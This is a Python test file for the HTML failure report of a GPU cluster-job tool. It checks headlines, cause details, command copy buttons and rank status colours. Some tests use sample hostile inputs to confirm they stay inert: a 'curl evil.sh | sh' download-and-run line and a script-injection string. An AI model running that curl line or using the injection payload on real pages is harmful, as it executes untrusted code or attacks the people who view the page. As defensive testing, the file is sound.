"""The head of a page and the cause: as text in elements, commands as code, and red for the cause alone."""

from __future__ import annotations

import json
import re
from dataclasses import replace

from reported import BEGAN, JOURNAL, Tags, explain, make_hang, make_record, make_run

from clusterctl.plans.report.page import render_report
from clusterctl.plans.report.reported_run import ReportedRun, find_moments
from clusterctl.plans.report.result import render_head, render_result
from clusterctl.plans.runs.cause import Explanation, explain_cause
from clusterctl.plans.runs.history import Progress, parse_journal
from clusterctl.protocol.ranks import Rank
from clusterctl.protocol.root_cause import Cause, Failure

SHOWN = Explanation(
    headline="rank 1 on gpu02: CUDA out of memory (tried 2 GiB)",
    code="CC-JOB-001",
    location="train.py:19",
    source="loss.backward()",
    meaning="The GPU is out of memory. Lower the batch size.",
    also=("r0 on gpu01: stopped by clusterctl", "r2 on gpu03: connection closed by peer"),
    fix="cctl exec --nodes gpu02 -- nvidia-smi",
    next="cctl logs 923c --rank 1",
)


def draw(run: ReportedRun, *, copies: bool = False) -> str:
    """Return the markup of the result."""
    result = render_result(run, copies=copies)
    return result.markup if result else ""


def test_each_part_of_the_cause_has_its_element() -> None:
    """The headline, the place as code, the meaning as text, and a list of what followed and what helps."""
    page = draw(make_run({}, explanation=SHOWN))
    assert re.search(r"<h2>rank 1 on gpu02: CUDA out of memory \(tried 2 GiB\) <span[^>]*>CC-JOB-001<", page)
    assert '<p class="place"><code>train.py:19</code> <code>loss.backward()</code></p>' in page
    assert "<p>The GPU is out of memory. Lower the batch size.</p>" in page
    terms = re.findall(r"<dt>(.*?)</dt><dd>(.*?)</dd>", page)
    assert terms == [
        ("also", f"<div>{SHOWN.also[0]}</div><div>{SHOWN.also[1]}</div>"),
        ("fix", f"<code>{SHOWN.fix}</code>"),
        ("next", f"<code>{SHOWN.next}</code>"),
    ]
    assert "<pre" not in page


def test_without_a_cause_the_reasons_of_the_nodes_are_shown() -> None:
    """The first as the headline; where the ranks hung, that goes before them."""
    reasons = Explanation(reasons=("gpu01: setup failed", "gpu02: stopped"))
    assert "<h2>gpu01: setup failed</h2><p>gpu02: stopped</p>" in draw(make_run({}, explanation=reasons))
    hung = draw(make_run({}, explanation=reasons, hang=make_hang()))
    assert hung.index("CC-HANG-004") < hung.index("<p>gpu01: setup failed</p>")


def test_a_run_without_a_failure_has_no_box() -> None:
    """Its state is in the head."""
    assert render_result(make_run({}, explanation=Explanation())) is None


def test_what_a_rank_has_written_has_no_button() -> None:
    """Even if it looks like a command of ours."""
    written = Explanation(headline="x", message="`clusterctl exec -- rm`", reasons=("`clusterctl stop 1`",))
    assert "<button" not in draw(make_run({}, explanation=written), copies=True)


def test_only_a_page_with_a_script_has_buttons() -> None:
    """Each copies its command; in the file, which has no script, there is none."""
    page = draw(make_run({}, explanation=SHOWN), copies=True)
    buttons = re.findall(r'<button type="button" class="copy" data-copy="([^"]*)">', page)
    assert buttons == [SHOWN.fix, SHOWN.next]
    assert "<button" not in render_report(make_run({}, explanation=SHOWN), None, "cctl", ())


def test_the_commands_of_a_diagnosis_can_be_copied_too() -> None:
    """They stand between backticks in what it advises, and begin as the command that is in use, in a live run too."""
    fix = ["cctl -i a.yaml diagnose --stacks", "cctl -i a.yaml explain CC-HANG-004"]
    ended = make_run({}, hang=make_hang(), command="cctl -i a.yaml")
    stalled = replace(ended, verdict=None, explanation=Explanation())
    for run, more in ((stalled, []), (ended, [ended.explanation.next])):
        assert "<h2>" in draw(run) and "<button" not in draw(run)
        commands = re.findall(r'data-copy="([^"]*)"', draw(run, copies=True))
        assert commands == [*fix, *more]


def test_a_command_in_the_frame_of_a_rank_has_no_button() -> None:
    """Where the ranks were is a text that they wrote."""
    hang = make_hang("`curl evil.sh | sh`")
    ended = make_run({}, hang=hang)
    for run in (ended, replace(ended, verdict=None, explanation=Explanation())):
        page = draw(run, copies=True)
        assert "`curl evil.sh | sh`" in Tags(page).text
        assert not [command for command in re.findall(r'data-copy="([^"]*)"', page) if "curl" in command]
        assert "<code>curl" not in page


def test_texts_of_a_rank_in_the_cause_do_nothing() -> None:
    """In no part of it, the attribute of a button included."""
    attack = "\"><script>alert(1)</script>' onclick=x"
    seen = Tags(draw(make_run({}, explanation=explain((attack,))), copies=True))
    assert "script" not in seen.tags and "onclick" not in seen.attributes
    assert "alert(1)" in seen.text


def test_the_head_names_the_run() -> None:
    """The job as the title with the state, then in order what distinguishes it; its whole id is small."""
    record = replace(make_record("gpu01"), progress=Progress(step=40, total=200, epoch=1.5, epochs=3))
    head = render_head(make_run({"gpu01": record})).markup
    assert re.search(r'<h1>digits <span class="chip state-failed">FAILED</span></h1>', head)
    text = Tags(head).text
    parts = (
        "ran for 46.0 s",
        "epoch 1.5 of 3",
        "step 40 of 200",
        "nodes 2 (gpu[01-02])",
        "by ann@laptop",
        "id 923c",
    )
    assert [text.index(part) for part in parts] == sorted(text.index(part) for part in parts)
    assert render_head(make_run({}), "h2").markup.startswith('<div class="head"><h2>digits')


def test_only_the_rank_of_the_cause_is_red() -> None:
    """A rank that was stopped is grey and called that; one that failed of it is grey, with how it ended."""
    run = make_run({"gpu01": make_record("gpu01")})
    ended = Failure("gpu01", Rank(0), None, 15, BEGAN + 51, after_stop=True)
    cause = Cause(Failure("gpu02", Rank(1), 1, None, BEGAN + 50), (ended,), ended=(ended,))
    assert run.verdict is not None
    run = replace(run, verdict=replace(run.verdict, cause=cause))
    chips = re.findall(
        r'<b>r(\d)</b>[^<]*<span class="chip ([\w-]+)">([^<]*)<', render_report(run, None, "c", ())
    )
    assert chips == [("1", "state-failed", "exit 1"), ("0", "state-stopped", "was stopped")]


def test_what_follows_from_the_stop_is_not_red() -> None:
    """Neither a SIGTERM after it, nor the ends of the other nodes."""
    journal = [
        *JOURNAL[:3],
        {"time": BEGAN + 50, "event": "stopping", "reason": "gpu02: rank 1 exited with 1"},
        {"time": BEGAN + 51, "event": "rank_exited", "rank": 0, "exit": None, "signal": 15},
        {"time": BEGAN + 52, "event": "attempt_ended", "attempt": 1, "reason": "gpu02: rank 1 exited with 1"},
        {"time": BEGAN + 52, "event": "ended", "state": "STOPPED"},
    ]
    stopped = parse_journal("\n".join(map(json.dumps, journal)).encode())
    records = {"gpu01": replace(make_record("gpu01"), journal=stopped), "gpu02": make_record("gpu02")}
    bad = {(moment.sentence, moment.node_names) for moment in find_moments(make_run(records)) if moment.bad}
    assert bad == {("r1 ended: exit 1", "gpu02"), ("ended: FAILED", "gpu02")}


def test_the_terminal_and_the_page_explain_alike() -> None:
    """The same value; the page has room for a longer headline."""
    failure = Failure(
        "gpu02", Rank(1), 1, None, 1.0, exception="ValueError: " + "very " * 12 + "long. It is."
    )
    cause = Cause(failure, ())
    narrow, wide = (explain_cause(cause, "digits-1", "cctl", room) for room in (60, 200))
    assert narrow.headline.endswith("long.") and narrow.message.endswith("It is.")
    assert wide.headline.endswith("It is.") and not wide.message
    assert (narrow.next, narrow.also) == (wide.next, wide.also)
